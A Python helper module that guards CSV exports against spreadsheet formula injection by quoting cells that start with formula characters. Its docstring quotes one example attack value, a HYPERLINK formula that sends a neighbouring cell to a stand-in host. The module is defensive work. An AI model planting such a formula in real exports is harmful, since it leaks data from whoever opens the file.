"""Spreadsheet-safe cell values for CSV exports (OWASP: "CSV injection").

Excel and LibreOffice run a cell that starts with =, +, - or @ as a formula, and skip a leading tab or
carriage return before deciding: an exported name such as `=HYPERLINK("https://evil.example/?"&A2)`
would send the neighbouring cell away when an editor clicks it. A single quote in front makes the
program show the value as text. Shared by every export; imports no app.
"""

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value):
    """`value` with a single quote in front if a spreadsheet would read it as a formula; anything else
    (other text, numbers, None) as it is."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def restore(value):
    """The value neutralise() was given, for cells read back from an exported file."""
    if isinstance(value, str) and value.startswith("'") and value[1:].startswith(FORMULA_STARTS):
        return value[1:]
    return value
